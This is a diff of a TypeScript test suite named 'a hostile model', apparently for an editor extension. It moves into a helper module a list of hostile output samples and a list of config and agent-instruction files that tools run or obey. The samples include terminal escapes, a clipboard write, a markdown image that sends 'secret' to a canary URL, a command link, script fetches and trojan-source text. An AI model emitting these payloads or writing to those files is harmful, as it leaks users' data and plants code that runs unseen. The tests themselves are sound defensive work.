@@ -10,7 +10,7 @@ import { git } from "../draft/place.ts";
 import { play } from "../engine/api.ts";
 import { visible } from "../../../src/webview/visible.ts";
 import { answers, calls, onHostileGround, says, secret, waiting, type Ground, type Step } from "./ground.ts";
-import { oddNames } from "./names.ts";
+import { deceitsWith, obeyed, oddNames } from "./names.ts";
 import { namesTried } from "./tries.ts";
 
 const done: Step = { blocks: [says("That is all.")] };
@@ -210,15 +210,7 @@ describe("a hostile model", function () {
     await onHostileGround(
       {
         turns: ({ canaryUrl }) => {
-          const deceits = [
-            "\u001b[2J\u001b]0;title\u0007\u001b]52;c;ZXZpbA==\u0007",
-            `\u001b]8;;${canaryUrl}\u0007click\u001b]8;;\u0007`,
-            `![x](${canaryUrl}/?q=secret) [y](command:workbench.action.terminal.new) <img src="${canaryUrl}/i">`,
-            `<script>fetch("${canaryUrl}")</script><style>@import "${canaryUrl}"</style>`,
-            "if (admin\u202e \u2066// check\u2069\u2066) {",
-            "ad\u200bmin \u{e0041}\u{e0042}",
-            "p\u0430ssword",
-          ];
+          const deceits = deceitsWith(canaryUrl);
           return [
             [
               {
@@ -250,25 +242,6 @@ describe("a hostile model", function () {
       },
     );
   });
-
-  const obeyed = [
-    ".vscode/tasks.json",
-    "sub/.VSCode/launch.json",
-    ".vscode./settings.json",
-    ".cUrSoR/mcp.json",
-    ".mcp.json",
-    "sub/.Claude/settings.local.json",
-    ".gitattributes",
-    ".gitmodules",
-    ".husky/pre-commit",
-    ".github/workflows/x.yml",
-    "CLAUDE.md",
-    ".npmrc",
-    ".envrc",
-    "x.code-workspace",
-    "eslint.config.js",
-    ".bashrc",
-  ];
 
   it("gets nothing that others run or obey into a bulk accept, in any spelling, there already or not", async () => {
     const step = {
